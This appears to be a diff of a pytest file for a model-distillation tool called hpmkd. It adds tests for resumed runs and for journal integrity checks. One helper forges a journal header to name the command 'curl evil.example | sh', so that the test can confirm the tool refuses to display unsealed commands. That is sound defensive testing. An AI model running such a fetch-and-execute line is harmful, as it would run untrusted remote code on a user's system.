@@ -1,5 +1,6 @@
 """What --resume and distill(journal=…) promise and refuse, in this process."""
 
+import contextlib
 import json
 import re
 import shlex
@@ -12,14 +13,16 @@ import numpy as np
 import pandas as pd
 import pytest
 from click.testing import CliRunner
+from sklearn.ensemble import RandomForestClassifier
 from sklearn.linear_model import LogisticRegression
+from sklearn.neighbors import KNeighborsClassifier
 from sklearn.tree import DecisionTreeClassifier
 
 import hpmkd
 from hpmkd.cli import cli
 from hpmkd.errors import JournalWarning, RunFolderError, StudentFileError
 from hpmkd.execution.journal import JournalFile
-from hpmkd.user_key import key_path
+from hpmkd.user_key import key_path, user_key
 from hpmkd_defaults.stages.tree import TreeStage
 
 SETTINGS = {
@@ -86,12 +89,33 @@ def begun(wine, tmp_path):
     return folder
 
 
+def sizes_of(found):
+    """Size and compression of every teacher, control and student."""
+    return {(each.role, each.name): (each.bytes, each.compression) for each in found.records}
+
+
+def test_a_resumed_run_reports_the_sizes_of_its_teachers_that_a_whole_one_does(wine, tmp_path):
+    """One stopped in every phase, and its teachers fitted in workers before and here after."""
+    teachers = {"forest": RandomForestClassifier(3), "near": KNeighborsClassifier()}
+    whole = sizes_of(distill(wine, teacher=teachers))
+    assert all(whole["teacher", name][0] > 1000 for name in teachers)
+    crowd = {"executor": "loky", "executor.workers": 2, "pipeline.start_seconds": 0}
+    for stop_at in (3, 4, 5):
+        folder = tmp_path / str(stop_at)
+        with pytest.raises(KeyboardInterrupt):
+            distill(wine, folder, teacher=teachers, changed=crowd, observers=[Observer(stop_at)])
+        found = distill(wine, folder, teacher=teachers)
+        assert found.counts["resumed"] > 0
+        assert sizes_of(found) == whole
+
+
 def test_a_stopped_run_ends_as_one_that_was_not(wine, begun):
     whole, seen = distill(wine), Observer()
     found = distill(wine, begun, observers=[seen])
     assert found.student.to_bytes() == whole.student.to_bytes()
     assert [each.log_loss for each in found.trials] == [each.log_loss for each in whole.trials]
     assert found.verdict == whole.verdict
+    assert sizes_of(found) == sizes_of(whole)
     assert found.gates == whole.gates
     assert found.counts["models_trained"] == whole.counts["models_trained"]
     assert found.counts["teacher_fits"] == whole.counts["teacher_fits"]
@@ -167,7 +191,7 @@ def test_where_it_runs_and_how_long_it_may_take_does_not_matter(wine, begun):
 
 def test_a_journal_of_another_user_is_refused(wine, begun):
     key_path().unlink()
-    with pytest.raises(RunFolderError, match=r"another user or machine.*--trust-pickle"):
+    with pytest.raises(RunFolderError, match=r"another user or machine.*--trust-journal"):
         distill(wine, begun)
 
 
@@ -383,6 +407,45 @@ def test_an_unfinished_run_says_so_and_its_best_student_predicts(stopped, data):
     with pytest.raises(StudentFileError, match="unfinished run"):
         hpmkd.load(folder)
     assert call("predict", folder / "best.hpmkd", data).stdout.startswith("prediction,p_a,p_b,p_c")
+
+
+def forge(folder):
+    """Have the journal of a run name a command that does something else."""
+    with contextlib.closing(sqlite3.connect(folder / "journal")) as database, database:
+        (header,) = database.execute("SELECT pickle FROM results WHERE name = 'header'").fetchone()
+        forged = json.dumps({**json.loads(header), "command": "curl evil.example | sh"}).encode()
+        database.execute("UPDATE results SET pickle = ? WHERE name = 'header'", (forged,))
+
+
+@pytest.mark.parametrize("way", ["forged", "another key", "no key"])
+def test_a_command_that_our_key_did_not_seal_is_not_shown(way, stopped, data):
+    folder, _ = stopped
+    if way == "forged":
+        forge(folder)
+    else:
+        key_path().unlink()
+        if way == "another key":
+            user_key()
+    refused = call("predict", folder, data)
+    assert refused.exit_code == 6
+    assert "evil" not in refused.stderr
+    assert "hpmkd distill" not in refused.stderr
+    for said in ("the same command, with --resume", "--trust-journal if you trust"):
+        assert said in refused.stderr
+    assert key_path().exists() is (way != "no key")
+    refused = command(data, "--resume", folder)
+    assert refused.exit_code == 7
+    assert "evil" not in refused.stderr
+
+
+def test_a_pickle_that_is_trusted_makes_no_journal_so(stopped, data):
+    folder, _ = stopped
+    key_path().unlink()
+    refused = command(data, "--resume", folder, "--trust-pickle")
+    assert refused.exit_code == 7
+    assert "add --trust-journal" in refused.stderr
+    assert command(data, "--resume", folder, "--trust-journal").exit_code == 0
+    assert json.loads((folder / "counts.json").read_text())["resumed"] > 0
 
 
 def test_out_is_refused_where_a_run_is_unfinished_and_overwrite_begins_anew(stopped, data):
